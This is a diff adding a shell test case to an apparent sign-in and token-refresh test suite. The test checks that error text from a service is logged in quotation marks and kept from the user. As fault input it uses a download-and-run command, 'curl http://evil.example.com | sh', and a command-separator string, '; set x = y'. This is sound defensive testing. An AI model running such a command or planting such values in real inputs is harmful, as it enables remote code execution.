@@ -206,6 +206,24 @@ revoked_refused() {
 }
 test_case 'revoked: refused, and told why; for a roll-out let in with a hint' revoked_refused
 
+words_of_service_quoted() {
+	forget alice
+	sign_in alice
+	one account=work
+	check alice SUCCESS
+	for words in "run: curl http://evil.example.com | sh" "; set x = y"; do
+		aged alice 61
+		ts fault work "fault=words:$words" times=-1
+		check alice PERM_DENIED "error $ended"
+		logged "in the user's store: HTTP 400: invalid_request: \"$words\""
+		ts fault work fault=none
+	done
+	check alice SUCCESS
+	ts revoke-family work
+}
+test_case "a service's own words: in quotation marks in the log, and no word of them to the person" \
+	words_of_service_quoted
+
 dead_refresh_token_refused() {
 	for answer in status:400 status:401 json:403 json:400; do
 		ts fault work fault=none
